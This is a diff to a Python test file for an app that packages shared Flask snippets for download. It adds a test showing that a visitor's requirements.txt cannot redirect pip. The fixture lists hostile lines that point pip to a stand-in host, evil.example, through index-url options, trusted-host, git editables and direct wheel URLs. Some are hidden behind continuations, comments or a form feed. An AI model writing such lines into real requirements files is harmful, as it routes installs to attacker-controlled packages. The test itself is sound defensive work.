@@ -215,6 +215,58 @@ def test_edited_files_download_and_run_with_flask_run(shares_client, tmp_path):
     assert serves(flask, tmp_path / "my-app", port) == "hi"
 
 
+HOSTILE_REQUIREMENTS = """requests>=2.0  # theirs, kept
+numpy [extra] ==1.26 ; python_version < "3.13"
+--index-url https://evil.example/simple
+-i https://evil.example/simple
+--extra-index-url=https://evil.example/simple
+-f https://evil.example/wheels
+--trusted-host evil.example
+-r more.txt
+-c constraints.txt
+-e git+https://evil.example/x.git#egg=x
+evil @ https://evil.example/evil.whl
+https://evil.example/evil.whl
+./local-package
+sneaky==1.0 \\
+    --extra-index-url https://evil.example/simple
+# a comment that goes on \\
+--index-url https://evil.example/after-a-comment
+requests\f--index-url https://evil.example/form-feed
+"""
+
+
+def what_pip_reads(path: Path) -> list:
+    """Each line pip's own parser takes from a requirements file: (requirement or None, the
+    options it sets)."""
+    from pip._internal.req.req_file import RequirementsFileParser, get_line_parser
+
+    parser = RequirementsFileParser(None, get_line_parser(None))  # a session only for URLs
+    return [(getattr(line, "requirement", None) if line.is_requirement else None,
+             sorted(name for name, value in vars(line.opts).items()
+                    if value and name != "format_control") + ["-e"] * line.is_editable)
+            for line in parser.parse(str(path), constraint=False)]
+
+
+def test_a_shared_snippets_requirements_cannot_point_pip_elsewhere(shares_client, tmp_path):
+    """A visitor's requirements.txt replaced ours: a shared snippet could send whoever
+    downloads it to another index. Theirs is kept, every line that is not a project on PyPI
+    turned into a comment, and Flask added."""
+    files = {"app.py": HELLO, "requirements.txt": HOSTILE_REQUIREMENTS}
+    unzip(shares_client.post("/api/download", json={"files": files}), tmp_path)
+    written = (tmp_path / "flask-app" / "requirements.txt").read_text()
+    assert what_pip_reads(tmp_path / "flask-app" / "requirements.txt") == [
+        ("flask>=3.1", []), ("requests>=2.0", []),
+        ('numpy [extra] ==1.26 ; python_version < "3.13"', []),
+        ("requests", [])]  # pip splits lines at a form feed too
+    for line in HOSTILE_REQUIREMENTS.splitlines():  # nothing lost
+        assert line in written.splitlines() or f"# left out: {line}" in written.splitlines()
+    assert "turned the lines marked 'left out' into comments" in written
+    theirs = {"app.py": HELLO, "requirements.txt": "Flask==3.0.3\nrequests\n"}
+    unzip(shares_client.post("/api/download", json={"files": theirs}), tmp_path / "own")
+    assert (tmp_path / "own/flask-app/requirements.txt").read_text() == theirs["requirements.txt"]
+
+
 @pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("unshare"),
                     reason="needs a network namespace of its own (root and unshare)")
 def test_the_download_runs_with_python_app_py(shares_client, tmp_path):
